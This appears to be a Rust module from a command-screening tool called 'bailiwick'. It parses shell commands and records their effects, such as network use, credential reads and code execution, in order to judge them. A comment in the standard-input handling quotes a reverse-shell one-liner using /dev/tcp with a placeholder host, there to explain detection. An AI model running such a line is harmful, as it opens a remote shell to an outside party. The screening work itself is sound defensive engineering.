//! One command and what the knowledge says of it: which program it is, what its options and operands do.

use std::borrow::Cow;

use crate::arg::{Arg, Hazy};
use crate::classify::{self, Purpose};
use crate::doing::{Cwds, Doing, Inner};
use crate::effect::{Carries, Effect, Origin, Peer, Place, Target};
use crate::engine::{At, Context, Engine};
use crate::knowledge::{self, Action, Node, Role, Touch};
use crate::normal::{self, Normal};
use crate::options::{self, Line, Set};
use crate::roles::MODULE;
use crate::special;

/// A command that was looked at.
pub(crate) struct Found<'a> {
    /// The program's base name, or what was written.
    pub(crate) name: String,
    pub(crate) normal: Normal,
    pub(crate) doing: Doing<'a>,
}

/// Looks at one command.
pub(crate) fn command<'a>(
    engine: &mut Engine<'_>,
    program: &Arg<'a>,
    rest: &[Arg<'a>],
    at: &At<'_, '_>,
) -> Found<'a> {
    let mut doing = Doing::default();
    let Some(word) = program.text() else {
        match program {
            Arg::Hazy(hazy) if !hazy.from.is_empty() => {
                let flow = engine.arg_flow(program, at);
                doing.code("shell", flow.origin());
            }
            _ => {}
        }
        doing.unknown("which program runs is not known");
        return Found { name: String::new(), normal: Normal::default(), doing };
    };
    let tidy =
        if word.contains("/.") || word.contains("//") { classify::tidy(word) } else { Cow::Borrowed(word) };
    let Some(name) = known_name(&tidy) else {
        path_program(engine, word, at, &mut doing);
        let normal = normal::plain(word, rest);
        // Whatever else lies at that path, it may be the gate's own program: nothing that is never an agent's becomes one's by
        // being named by a path. Rules still see the path.
        if let Some(node) = tidy.rsplit('/').next().filter(|base| *base == OWN).and_then(knowledge::program) {
            let mut evaluation = Evaluation { engine, at, name: OWN, cwds: at.cwds.clone(), doing };
            let line = evaluation.read(node, rest);
            evaluation.judge(&line);
            doing = evaluation.doing;
        }
        return Found { name: word.to_owned(), normal, doing };
    };
    // A colon cannot be a header's name.
    let known = if name == ":" { "true" } else { name };
    let found = knowledge::program(known);
    let name = name.strip_prefix(MODULE).unwrap_or(name);
    let Some(node) = found else {
        if name.is_empty() {
            doing.unknown("a command without a name");
        } else {
            doing.add(Effect::Run { program: name.to_owned() });
        }
        return Found { name: name.to_owned(), normal: normal::plain(name, rest), doing };
    };
    let mut evaluation = Evaluation { engine, at, name, cwds: at.cwds.clone(), doing };
    let line = evaluation.read(node, rest);
    evaluation.judge(&line);
    let doing = evaluation.doing;
    Found { name: name.to_owned(), normal: normal::of(name, &line), doing }
}

/// The program that this is a part of.
const OWN: &str = "bailiwick";

/// Directories whose programs are those that a bare name finds.
static USUAL: &[&str] = &[
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/usr/local/sbin/",
    "/opt/homebrew/bin/",
    "/opt/homebrew/sbin/",
    "/snap/bin/",
    "/run/current-system/sw/bin/",
];

/// The base name of a program that is found by its bare name or in one of the usual directories.
pub(crate) fn known_name(word: &str) -> Option<&str> {
    if !word.contains('/') {
        return Some(word);
    }
    for directory in USUAL {
        if let Some(name) = word.strip_prefix(directory)
            && !name.contains('/')
            && !name.is_empty()
        {
            return Some(name);
        }
    }
    // `~/.cargo/bin/cargo`, with the home directory already written out.
    let (directory, name) = word.rsplit_once('/')?;
    let below_home = directory.ends_with("/.cargo/bin") || directory == "~/.cargo/bin";
    (below_home && !name.is_empty() && !word.contains("/../")).then_some(name)
}

/// A program that is named by a path of its own.
fn path_program(engine: &mut Engine<'_>, word: &str, at: &At<'_, '_>, doing: &mut Doing<'_>) {
    let mut read = Doing::default();
    read.named(word, false, Purpose::Read, at.cwds, engine.around);
    for effect in &read.effects {
        if let Effect::Read(target) = effect
            && engine.written_in(&target.path).is_some_and(|flow| flow.network)
        {
            doing.code("program", Origin::Network);
        }
    }
    doing.add(Effect::Run { program: word.to_owned() });
}

/// The looking at one command, under way.
pub(crate) struct Evaluation<'x, 'e, 's, 'p, 'a> {
    pub(crate) engine: &'x mut Engine<'e>,
    pub(crate) at: &'x At<'s, 'p>,
    pub(crate) name: &'x str,
    /// Where this command's relative paths are measured from.
    pub(crate) cwds: Cwds<'x>,
    pub(crate) doing: Doing<'a>,
}

impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
    fn read(&mut self, node: &'static Node, words: &[Arg<'a>]) -> Line<'a> {
        match node.block.special {
            Some("tar") => Line::read(node, &special::tar::modern(words)),
            Some("chmod") => Line::read(node, &special::modes_as_operands(words)),
            Some("find" | "kill") => Line::read(node, &[]),
            _ => Line::read(node, words),
        }
        .with_words(words)
    }

    fn judge(&mut self, line: &Line<'a>) {
        let actions = || line.options.iter().flat_map(|set| set.choice.actions.iter());
        if let Some(place) = stops(line) {
            // What was asked for before it may have been done already.
            for set in line.options.iter().take(place) {
                for action in &set.choice.actions {
                    self.action(action, set.value.as_ref(), line);
                }
            }
            return;
        }
        let (mut dry, mut own_names) = (false, false);
        for action in line.nodes.iter().flat_map(|node| node.block.does.iter()).chain(actions()) {
            match action {
                Action::Dry => dry = true,
                Action::Recursive => self.doing.recursive = true,
                Action::Deep => self.doing.deep = true,
                Action::OwnNames => own_names = true,
                Action::InPlace => self.doing.in_place = true,
                _ => {}
            }
        }
        self.doing.forced = self.name == "rm" && line.options.iter().any(|set| set.choice.canonical == "-f");
        for set in &line.options {
            if set.choice.actions.iter().any(|action| matches!(action, Action::Chdir)) {
                self.chdir(set.value.as_ref());
            }
        }
        for option in &line.unlisted {
            self.doing.unknown(format!("`{}` with the option `{option}`", self.name));
        }
        if let Some(why) = line.hazy {
            self.doing.unknown(why);
        }
        if let Some(why) = &line.stray {
            self.doing.unknown(format!("`{}`: {why}", self.name));
        }
        let does = || line.nodes.iter().flat_map(|node| node.block.does.iter());
        let unpacks = |action: &&Action<'static>| matches!(action, Action::Path(Touch::Unpack, _));
        for action in does().filter(|action| !unpacks(action)) {
            self.action(action, None, line);
        }
        for set in &line.options {
            for action in set.choice.actions.iter().filter(|action| !unpacks(action)) {
                self.action(action, set.value.as_ref(), line);
            }
        }
        let mut handled = line.stray.is_some();
        for (place, node) in line.nodes.iter().enumerate() {
            if let Some(name) = node.block.special {
                handled |= special::read(name, place, self, line);
            }
        }
        if !handled {
            self.operands(line);
        }
        // Where the call says into which directory, that is the one; and `patch FILE` changes that file.
        let named = matches!(self.name, "patch" | "gpatch") && !line.operands.is_empty();
        if !self.doing.unpacked && !named {
            for action in does().chain(actions()).filter(unpacks) {
                self.action(action, None, line);
            }
        }
        if self.doing.keeps
            && let Some(file) = line.operands.first()
        {
            self.doing.path(file, Purpose::Write, &self.cwds, self.engine.around);
        }
        if own_names {
            self.own_names(line);
        }
        self.downloads(line);
        if matches!(self.name, "ln" | "gln") {
            self.link(line);
        }
        self.input(line);
        if self.doing.lists.is_none() {
            self.doing.lists = crate::output::listed(self.name, line);
        }
        if self.doing.sends {
            self.doing.carry(Carries::Data);
        }
        if dry {
            self.doing.only_looks();
            for set in &line.options {
                // What an option that only tries things runs all the same, it says itself.
                let tries = set.choice.actions.contains(&Action::Dry);
                let runs = |action: &&Action<'static>| {
                    knowledge::is_running(action) || tries && matches!(action, Action::Run(_))
                };
                for action in set.choice.actions.iter().filter(runs) {
                    self.action(action, set.value.as_ref(), line);
                }
            }
        }
    }

    /// `ln -s TARGET LINK`, `ln -s TARGET`, `ln -s TARGET… DIRECTORY`: what is written was a link from now on.
    fn link(&mut self, line: &Line<'a>) {
        let Some((first, rest)) = line.operands.split_first() else { return };
        let name =
            |target: &str| target.trim_end_matches('/').rsplit('/').next().unwrap_or_default().to_owned();
        let targets: Vec<&str> = line.operands.iter().filter_map(Arg::text).collect();
        let place = match rest.last().map(Arg::text) {
            Some(Some(last)) => last.to_owned(),
            Some(None) => return,
            None => first.text().map(name).unwrap_or_default(),
        };
        for cwd in &self.cwds.known {
            let link = if place.starts_with('/') { place.clone() } else { format!("{cwd}/{place}") };
            let link = classify::tidy(&link);
            for target in targets.iter().take(targets.len().saturating_sub(1).max(1)) {
                // Where the last word is a directory, the link stands in it.
                let inside = format!("{link}/{}", name(target));
                if !(self.engine.links.make(&link, target) && self.engine.links.make(&inside, target)) {
                    self.doing.unknown("more links than are followed");
                    return;
                }
            }
        }
    }

    /// Relative paths are measured from here on against another directory.
    pub(crate) fn chdir(&mut self, value: Option<&Arg<'a>>) {
        match value.and_then(Arg::text) {
            None => self.cwds = Cwds::lost(),
            Some(directory) if directory.starts_with('/') => self.cwds = Cwds::at(directory.to_owned()),
            Some(directory) => {
                for cwd in &mut self.cwds.known {
                    *cwd = Cow::Owned(format!("{cwd}/{directory}"));
                }
            }
        }
        self.doing.moved = Some(self.cwds.owned());
    }

    pub(crate) fn action(&mut self, action: &Action<'static>, value: Option<&Arg<'a>>, line: &Line<'a>) {
        match action {
            Action::Value(role) => {
                if let Some(value) = value {
                    self.role(*role, value, line, true);
                }
            }
            Action::Path(touch, path) => self.fixed(*touch, path),
            Action::Query(name) => self.doing.connect(Peer::Service((*name).to_owned()), Carries::Query),
            Action::Send(name) => self.doing.connect(Peer::Service((*name).to_owned()), Carries::Data),
            Action::Listen => self.doing.connect(Peer::Loopback, Carries::Query),
            Action::DataInput => self.doing.code_given = true,
            Action::Connect => self.doing.connect(Peer::Unnamed, Carries::Query),
            Action::Run(what) => self.doing.add(Effect::Run { program: (*what).to_owned() }),
            Action::Code(language) => self.doing.code(language, Origin::Unresolved),
            Action::Privilege(how) => self.doing.add(Effect::Privilege((*how).to_owned())),
            Action::System(what) => self.doing.add(Effect::System((*what).to_owned())),
            Action::History(what) => self.doing.add(Effect::History((*what).to_owned())),
            Action::Environment(name) => self.doing.add(Effect::Environment((*name).to_owned())),
            Action::Unknown(why) => self.doing.unknown(*why),
            // Looked at before, or while the line was taken apart.
            Action::Stop
            | Action::StopAlone
            | Action::Dry
            | Action::Recursive
            | Action::Deep
            | Action::OwnNames
            | Action::InPlace
            | Action::Operands(_)
            | Action::End
            | Action::Chdir
            | Action::Nothing => {}
        }
    }

    /// A path that the knowledge names.
    fn fixed(&mut self, touch: Touch, path: &str) {
        let purpose = match touch {
            Touch::Unpack => return self.unpack(&Arg::owned(path)),
            Touch::Read => Purpose::Read,
            Touch::Write => Purpose::Write,
            Touch::Delete | Touch::DeleteTree => Purpose::Delete,
        };
        let recursive = std::mem::replace(&mut self.doing.recursive, touch == Touch::DeleteTree);
        if touch == Touch::Write && path == "." {
            self.doing.directories.push(Arg::owned(path));
        }
        let before = self.doing.effects.len();
        self.doing.named(path, false, purpose, &self.cwds, self.engine.around);
        self.doing.recursive = recursive;
        if path == ".git" {
            // What the program itself keeps there is its own business; it is hooks and settings that are protected.
            for effect in self.doing.effects.iter_mut().skip(before) {
                if let Effect::Write(target) = effect
                    && target.place == crate::effect::Place::Protected
                {
                    target.place = crate::effect::Place::Workspace;
                }
            }
        }
    }

    /// The operands by their roles.
    pub(crate) fn operands(&mut self, line: &Line<'a>) {
        let Some(roles) = line.roles() else {
            if !line.operands.is_empty()
                && line.nodes.last().is_some_and(|node| node.block.branches.is_empty())
            {
                self.doing.unknown(format!("`{}` with an operand that is not expected", self.name));
            }
            return;
        };
        if line.operands.is_empty() {
            if let Some(path) = roles.otherwise {
                let role = roles
                    .slots
                    .iter()
                    .map(|slot| slot.role)
                    .find(|role| is_path(*role))
                    .unwrap_or(Role::Read);
                self.role(role, &Arg::owned(path), line, false);
            }
            return;
        }
        let splits = line
            .operands
            .iter()
            .position(|operand| matches!(operand, Arg::Hazy(hazy) if hazy.splits && !hazy.absent));
        for (place, operand) in line.operands.iter().enumerate() {
            let Some(slot) = options::slot_at(&roles.slots, &line.operands, place) else {
                self.doing.unknown(format!("`{}` with more operands than expected", self.name));
                return;
            };
            // Where a word before it may be any number of words, an operand may stand for any of the roles.
            let open =
                splits.filter(|first| *first <= place).map(|first| options::slots_from(&roles.slots, first));
            if let Some(slots) = open.filter(|slots| slots.len() != 1) {
                for slot in slots {
                    if is_runnable(slot.role) {
                        self.doing.unknown("words that are not known decide what runs");
                    } else {
                        self.role(slot.role, operand, line, false);
                    }
                }
                continue;
            }
            match slot.role {
                Role::Command => {
                    let words: Vec<Arg<'a>> = line.operands.iter().skip(place).cloned().collect();
                    self.doing.code_given = true;
                    self.doing.inner.push(Inner::Command(words));
                    return;
                }
                Role::Elsewhere => {
                    let words: Vec<Arg<'a>> = line.operands.iter().skip(place).cloned().collect();
                    self.elsewhere(&words);
                    return;
                }
                Role::Shell if slot.repeats => {
                    self.doing.code_given = true;
                    let text = join(line.operands.iter().skip(place));
                    self.doing.inner.push(Inner::Shell(self.shell_language(), text));
                    return;
                }
                Role::Script(_) | Role::Module => {
                    if slot.role == Role::Module {
                        let rest: Vec<Arg<'a>> = line.operands.iter().skip(place + 1).cloned().collect();
                        self.module(operand, rest);
                    } else {
                        self.role(slot.role, operand, line, false);
                    }
                    return;
                }
                role => self.role(role, operand, line, false),
            }
        }
    }

    /// Standard input, where it is code.
    fn input(&mut self, line: &Line<'a>) {
        let role = match self.doing.input_code {
            Some(language) => Role::Code(language),
            None if self.doing.code_given => return,
            None => match line.innermost(|node| node.block.input) {
                Some(role) => role,
                None => return,
            },
        };
        let mut input = self.at.context.input.clone();
        // `bash -i >& /dev/tcp/host/port 0>&1`: the other end types.
        if self.at.context.extra.iter().any(|effect| matches!(effect, Effect::Connect(_))) {
            input.network = true;
            input.constant = None;
        }
        if input.more && input.constant.is_some() && matches!(role, Role::Shell | Role::Code(_)) {
            let language = if let Role::Code(language) = role { language } else { "shell" };
            self.doing.code(language, input.origin());
        }
        match role {
            Role::Shell => match &input.constant {
                Some(text) => {
                    self.doing.inner.push(Inner::Shell(self.shell_language(), Arg::owned(text.as_ref())));
                }
                None => self.doing.code("shell", input.origin()),
            },
            Role::Code(language) => match &input.constant {
                Some(text) => self.code(language, &Arg::owned(text.as_ref())),
                None => self.doing.code(language, input.origin()),
            },
            Role::Command | Role::Script(_) => self.doing.code("shell", input.origin()),
            _ => {}
        }
    }

    /// A command that runs in a container: its paths are not of this machine. What only reads there is nothing here;
    /// what does more is asked about.
    pub(crate) fn elsewhere(&mut self, words: &[Arg<'a>]) {
        self.doing.code_given = true;
        let context = Context { depth: self.at.context.depth + 1, ..Context::default() };
        let effects = self.engine.apart(words, &At { context: &context, ..*self.at });
        // Everybody in a container may know who is in it.
        let known = |target: &Target| target.place != Place::Credential || target.path == "/etc/passwd";
        let looks = |effect: &Effect| matches!(effect, Effect::Read(target) if known(target));
        if !effects.iter().all(looks) {
            let name = words.first().and_then(Arg::text).unwrap_or("a command");
            self.doing.add(Effect::Run { program: format!("{name} in a container") });
        }
    }

    pub(crate) fn shell_language(&self) -> &'static str {
        // What `eval` reads is read by the shell that stands around it.
        match self.name {
            "sh" | "dash" | "ash" | "ksh" | "mksh" | "yash" | "posh" => "sh",
            _ => "bash",
        }
    }
}

/// Words joined by blanks, as `eval` joins them.
pub(crate) fn join<'a, 'w>(words: impl Iterator<Item = &'w Arg<'a>>) -> Arg<'a>
where
    'a: 'w,
{
    let mut text = String::new();
    let mut hazy: Option<Hazy<'a>> = None;
    for word in words {
        if !text.is_empty() {
            text.push(' ');
        }
        match word {
            Arg::Text(one) => text.push_str(one),
            Arg::Pattern(one) => text.push_str(&crate::glob::literal(one)),
            Arg::Process { commands, .. } => hazy = Some(Hazy { from: commands, ..Hazy::default() }),
            Arg::Hazy(one) => {
                if hazy.as_ref().is_none_or(|known| known.from.is_empty()) {
                    hazy = Some(Hazy { prefix: Cow::Borrowed(""), ..one.clone() });
                }
            }
        }
    }
    match hazy {
        Some(hazy) => Arg::Hazy(hazy),
        None => Arg::owned(text),
    }
}

fn is_path(role: Role<'_>) -> bool {
    matches!(
        role,
        Role::Read
            | Role::Write
            | Role::Delete
            | Role::DeleteTree
            | Role::ReadWrite
            | Role::WriteDir
            | Role::UnpackDir
    )
}

fn is_runnable(role: Role<'_>) -> bool {
    matches!(
        role,
        Role::Command
            | Role::Elsewhere
            | Role::Shell
            | Role::Shells
            | Role::Script(_)
            | Role::Code(_)
            | Role::Module
            | Role::Program
    )
}

/// Whether the program only prints something and ends (`--help`): the place of the option that says so. Not where an
/// option that is not known, or one that runs something, is given besides.
fn stops(line: &Line<'_>) -> Option<usize> {
    let alone = line.operands.is_empty() && line.subs.is_empty();
    let is_stop = |set: &Set<'_>| {
        set.choice
            .actions
            .iter()
            .any(|action| matches!(action, Action::Stop) || alone && matches!(action, Action::StopAlone))
    };
    let place = line.options.iter().position(is_stop)?;
    let runs = line.options.iter().flat_map(|set| &set.choice.actions).any(|action| match action {
        Action::Run(_) | Action::Code(_) | Action::Unknown(_) => true,
        Action::Operands(operands) => operands.slots.iter().any(|slot| is_runnable(slot.role)),
        action => knowledge::is_running(action),
    });
    // What a special makes of options' values is not in the actions.
    let special = line.nodes.iter().any(|node| node.block.special.is_some())
        && line.options.iter().any(|set| set.value.is_some());
    let stray = line.stray.is_some() && !line.operands.is_empty();
    let certain = line.hazy.is_none() && line.unlisted.is_empty() && !stray;
    (certain && !runs && !special).then_some(place)
}
